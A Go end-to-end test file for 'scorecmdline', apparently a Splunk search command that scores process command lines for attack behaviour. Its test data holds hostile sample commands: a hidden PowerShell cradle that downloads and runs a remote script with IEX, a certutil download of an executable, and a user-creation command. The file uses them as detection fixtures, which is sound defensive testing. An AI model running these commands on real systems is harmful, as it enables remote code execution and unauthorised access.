package cli

// End-to-end tests of the real binary, run as a subprocess the way splunkd
// runs it: no arguments, the protocol on stdin, replies on stdout.

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"scorecmdline/src/config"
	"scorecmdline/src/event"
	"scorecmdline/src/score"
)

var binPath string // built once by TestMain

func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "scorecmdline-e2e")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	binPath = filepath.Join(dir, "scorecmdline")
	build := exec.Command("go", "build", "-o", binPath, "scorecmdline/src/cmd/scorecmdline")
	build.Stderr = os.Stderr
	if err := build.Run(); err != nil {
		fmt.Fprintln(os.Stderr, "building the binary:", err)
		os.Exit(1)
	}
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

// run starts the binary with args and stdin, and returns stdout, stderr
// and the exit status.
func run(t testing.TB, stdin []byte, args ...string) (stdout, stderr []byte, code int) {
	t.Helper()
	cmd := exec.Command(binPath, args...)
	cmd.Stdin = bytes.NewReader(stdin)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	if ee, ok := err.(*exec.ExitError); ok {
		return out.Bytes(), errb.Bytes(), ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	return out.Bytes(), errb.Bytes(), 0
}

func frame(meta, body string) string {
	return fmt.Sprintf("chunked 1.0,%d,%d\n%s%s", len(meta), len(body), meta, body)
}

func getinfo(args ...string) string {
	js, _ := json.Marshal(args)
	return frame(`{"action":"getinfo","preview":false,"searchinfo":{"args":`+string(js)+`,"raw_args":`+string(js)+
		`,"dispatch_dir":"/tmp","sid":"1.1","app":"search","owner":"admin","username":"admin","session_key":"k",`+
		`"splunkd_uri":"https://127.0.0.1:8089","splunk_version":"9.2.1","search":"%7C%20scorecmdline",`+
		`"command":"scorecmdline","maxresultrows":50000,"earliest_time":"0","latest_time":"0"}}`, "")
}

func execute(finished bool, body string) string {
	return frame(fmt.Sprintf(`{"action":"execute","finished":%v}`, finished), body)
}

// reply is one parsed reply chunk.
type reply struct {
	meta   map[string]any
	header []string
	rows   []map[string]string
	raw    string // the body bytes
}

// parseReplies parses stdout strictly: canonical headers, byte lengths,
// nothing between chunks, ending exactly at EOF.
func parseReplies(t testing.TB, out []byte) []reply {
	t.Helper()
	var rs []reply
	for len(out) > 0 {
		nl := bytes.IndexByte(out, '\n')
		if nl < 0 {
			t.Fatalf("reply %d: no header line in %.80q", len(rs), out)
		}
		var m, b int
		if _, err := fmt.Sscanf(string(out[:nl]), "chunked 1.0,%d,%d", &m, &b); err != nil ||
			string(out[:nl]) != fmt.Sprintf("chunked 1.0,%d,%d", m, b) {
			t.Fatalf("reply %d: bad header %q", len(rs), out[:nl])
		}
		out = out[nl+1:]
		if len(out) < m+b {
			t.Fatalf("reply %d: truncated", len(rs))
		}
		var r reply
		if err := json.Unmarshal(out[:m], &r.meta); err != nil {
			t.Fatalf("reply %d: metadata %q: %v", len(rs), out[:m], err)
		}
		r.raw = string(out[m : m+b])
		if b > 0 {
			cr := csv.NewReader(strings.NewReader(r.raw))
			recs, err := cr.ReadAll()
			if err != nil {
				t.Fatalf("reply %d: body: %v", len(rs), err)
			}
			r.header = recs[0]
			for _, rec := range recs[1:] {
				row := map[string]string{}
				for i, h := range r.header {
					row[h] = rec[i]
				}
				r.rows = append(r.rows, row)
			}
		}
		rs = append(rs, r)
		out = out[m+b:]
	}
	return rs
}

const psLine = `powershell.exe -nop -w hidden -c "$m=New-Object System.Threading.Mutex($false,'Global\abc');if($m.WaitOne(0)){$wc=New-Object System.Net.WebClient;$s=$wc.OpenRead('http://10.0.0.5/a.ps1');$sr=New-Object System.IO.StreamReader($s);$c=$sr.ReadToEnd();function Run($x){try{IEX $x}catch{}};Run $c}"`

func csvQuote(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }

// TestTranscript runs a whole search through the binary: getinfo, chunks
// with multibyte text, multivalue fields, quoted newlines, CRLF, an empty
// body and a final empty finished chunk, and checks every reply field by
// field.
func TestTranscript(t *testing.T) {
	body1 := "\"_time\",process,\"parent_process_name\",tags,\"__mv__time\",\"__mv_process\",\"__mv_parent_process_name\",\"__mv_tags\"\n" +
		"1700000000," + csvQuote(psLine) + ",explorer.exe," + csvQuote("a\nb$c") + ",,,," + csvQuote("$a$;$b$$c$") + "\n" +
		"1700000001," + csvQuote("cmd.exe /c certutil -urlcache -split -f http://127.0.0.1:8080/x.exe x.exe") + ",winword.exe,,,,,\n" +
		"1700000002," + csvQuote("echo ทดสอบ\nsecond line, with comma") + ",,,,,,\n" +
		"1700000003,,cmd.exe,,,,,\n"
	body2 := "process,\"_chunked_idx\"\r\n" + csvQuote("net user bob P@ss /add") + ",0\r\n" + "notepad.exe,1\r\n"
	stream := getinfo("field=process", "model=escu") + execute(false, body1) + execute(false, "") +
		execute(false, body2) + execute(true, "")
	out, stderr, code := run(t, []byte(stream))
	if code != 0 {
		t.Fatalf("exit %d, stderr %s", code, stderr)
	}
	rs := parseReplies(t, out)
	if len(rs) != 5 {
		t.Fatalf("%d replies, want 5 (getinfo + 4 execute)", len(rs))
	}
	if rs[0].meta["type"] != "streaming" {
		t.Errorf("getinfo reply %v", rs[0].meta)
	}
	for i, f := range []bool{false, false, false, true} {
		if rs[i+1].meta["finished"] != f {
			t.Errorf("reply %d finished = %v, want %v", i+1, rs[i+1].meta["finished"], f)
		}
	}
	r1 := rs[1]
	if len(r1.rows) != 4 {
		t.Fatalf("chunk 1: %d rows, want 4", len(r1.rows))
	}
	want := []map[string]string{
		{"_time": "1700000000", "process": psLine, "parent_process_name": "explorer.exe", "tags": "a\nb$c", "__mv_tags": "$a$;$b$$c$",
			"score": "8.458906799068355", "rule_count": "0", "certutil_abuse": "0"},
		{"_time": "1700000001", "rule_count": "2", "certutil_abuse": "1", "suspicious_parent": "1",
			"rule_hits": "certutil_urlcache\nsuspicious_parent", "risk_score": libraryRisk(t, "cmd.exe /c certutil -urlcache -split -f http://127.0.0.1:8080/x.exe x.exe", "winword.exe")},
		{"_time": "1700000002", "process": "echo ทดสอบ\nsecond line, with comma", "rule_count": "0"},
		{"_time": "1700000003", "process": "", "score": "", "rule_count": "", "risk_score": "", "rule_hits": ""},
	}
	for i, w := range want {
		for k, v := range w {
			if got := r1.rows[i][k]; got != v {
				t.Errorf("chunk 1 row %d field %s = %q, want %q", i, k, got, v)
			}
		}
	}
	if rs[2].raw != "" {
		t.Errorf("empty request got body %q", rs[2].raw)
	}
	r3 := rs[3]
	if len(r3.rows) != 2 || r3.rows[0]["_chunked_idx"] != "0" || r3.rows[1]["_chunked_idx"] != "1" ||
		r3.rows[0]["user_creation"] != "1" || r3.rows[0]["process"] != "net user bob P@ss /add" {
		t.Errorf("chunk 3 rows %v", r3.rows)
	}
	if !strings.HasPrefix(r3.raw, "process,\"_chunked_idx\",") || !strings.Contains(r3.raw, "\r\n\"net user bob P@ss /add\",0,") {
		t.Errorf("chunk 3 input bytes not kept: %q", r3.raw)
	}
	if rs[4].raw != "" {
		t.Errorf("final empty request got body %q", rs[4].raw)
	}
}

// TestReplayMultibyte replays real splunkd 8.0.3 traffic (Thai text, nine
// uneven chunks) with its getinfo replaced by one for scorecmdline.
func TestReplayMultibyte(t *testing.T) {
	path := filepath.Join("..", "..", "..", "shared", "chunked-protocol", "recordings", "custom_search", "multibyte_input.gz")
	f, err := os.Open(path)
	if err != nil {
		t.Skipf("../shared recordings not present (%v); the transcript test still covers the protocol", err)
	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	rec, err := io.ReadAll(zr)
	if err != nil {
		t.Fatal(err)
	}
	// Drop the recorded getinfo chunk and put ours in front.
	br := bufio.NewReader(bytes.NewReader(rec))
	head, _ := br.ReadString('\n')
	var m, b int
	fmt.Sscanf(head, "chunked 1.0,%d,%d", &m, &b)
	rest := rec[len(head)+m+b:]
	stream := append([]byte(getinfo("field=teststring", "explain=true", "model=escu")), rest...)

	out, stderr, code := run(t, stream)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	rs := parseReplies(t, out)
	wantRows := []int{6638, 5861, 1, 6574, 5926, 6412, 6088, 1741, 1441}
	if len(rs) != 1+len(wantRows) {
		t.Fatalf("%d replies, want %d", len(rs), 1+len(wantRows))
	}
	// Split the request bodies the same way, to compare rows.
	reqs := parseRequests(t, rest)
	for i, n := range wantRows {
		r := rs[i+1]
		if got := r.meta["finished"]; got != (i == len(wantRows)-1) {
			t.Errorf("reply %d finished = %v", i+1, got)
		}
		if len(r.rows) != n || len(reqs[i]) != n {
			t.Fatalf("reply %d: %d rows, request %d, want %d", i+1, len(r.rows), len(reqs[i]), n)
		}
		for j, in := range reqs[i] {
			for k, v := range in {
				if r.rows[j][k] != v {
					t.Fatalf("reply %d row %d field %s = %q, want %q", i+1, j, k, r.rows[j][k], v)
				}
			}
			if r.rows[j]["score"] != "-1.2124304031951825" || r.rows[j]["normalized_cmdline"] == "" {
				t.Fatalf("reply %d row %d: score %q normalized %q", i+1, j, r.rows[j]["score"], r.rows[j]["normalized_cmdline"])
			}
		}
	}
}

func parseRequests(t *testing.T, stream []byte) [][]map[string]string {
	var out [][]map[string]string
	for _, r := range parseReplies(t, stream) { // requests share the reply framing
		out = append(out, r.rows)
	}
	return out
}

// TestBadInput checks the documented outcome of broken requests: an ERROR
// message splunkd shows, exit status 1, and nothing but protocol on stdout.
func TestBadInput(t *testing.T) {
	good := getinfo()
	tests := []struct {
		name, stream, wantMsg string
	}{
		{"unknown argument", getinfo("bogus=1"), "Unrecognized option: bogus=1"},
		{"bad boolean", getinfo("explain=maybe"), "Illegal value: explain=maybe"},
		{"unknown model", getinfo("model=nope"), `unknown model "nope"`},
		{"unknown pack", getinfo("rules=nope"), `unknown rule pack "nope"`},
		{"positional", getinfo("process"), `unexpected argument "process"`},
		{"truncated body", good + "chunked 1.0,37,100\n{\"action\":\"execute\",\"finished\":true}process\n", "unexpected EOF"},
		{"garbage lengths", good + "chunked 1.0,x9,-1\n", "chunk 2"},
		{"invalid JSON", good + frame(`{"action":"execute",`, ""), "chunk 2"},
		{"not getinfo first", execute(true, "process\nx\n"), "getinfo"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, stderr, code := run(t, []byte(tt.stream))
			if code != 1 {
				t.Errorf("exit %d, want 1 (stderr %s)", code, stderr)
			}
			rs := parseReplies(t, out)
			last := rs[len(rs)-1]
			js, _ := json.Marshal(last.meta["inspector"])
			if !strings.Contains(string(js), `["ERROR",`) || !strings.Contains(string(js), strconv.Quote(tt.wantMsg)[1:len(strconv.Quote(tt.wantMsg))-1]) {
				t.Errorf("last reply %v does not carry ERROR %q", last.meta, tt.wantMsg)
			}
			if bytes.Contains(stderr, []byte("panic")) || bytes.Contains(stderr, []byte("goroutine ")) {
				t.Errorf("stderr shows a panic: %s", stderr)
			}
		})
	}
}

// Invalid UTF-8, NUL bytes and a 1 MiB command line are data, not errors:
// they come back unchanged and get a score.
func TestOddValues(t *testing.T) {
	huge := strings.Repeat("New-Object ", 1<<20/11)
	body := "process,other\n" + csvQuote("net\xff\xfeuser\x00 x /add") + ",\"\x00\xc3\"\n" + csvQuote(huge) + ",y\n"
	out, stderr, code := run(t, []byte(getinfo()+execute(true, body)))
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	rs := parseReplies(t, out)
	if len(rs) != 2 || len(rs[1].rows) != 2 {
		t.Fatalf("replies %d", len(rs))
	}
	if !strings.Contains(rs[1].raw, "\"net\xff\xfeuser\x00 x /add\",\"\x00\xc3\"") {
		t.Error("invalid UTF-8 / NUL row not passed through byte for byte")
	}
	if got := rs[1].rows[1]["score"]; got == "" || rs[1].rows[1]["process"] != huge {
		t.Errorf("1 MiB line: score %q", got)
	}
}

// libraryRisk is the risk_score the score package computes, which the
// binary must report unchanged.
func libraryRisk(t *testing.T, cmdline, parent string) string {
	eng, err := score.New(config.Lookups(""), score.Defaults())
	if err != nil {
		t.Fatal(err)
	}
	var ev event.Event
	return strconv.Itoa(eng.NewScorer().Score(lineEvent(&ev, cmdline, parent)).Risk)
}

// lineEvent fills ev with a command line and its parent, a name or a path.
func lineEvent(ev *event.Event, cmdline, parent string) *event.Event {
	ev.Reset()
	ev.Set(event.Process, []byte(cmdline))
	ev.SetNameOrPath(event.ParentProcessName, event.ParentProcessPath, []byte(parent))
	ev.Complete()
	return ev
}
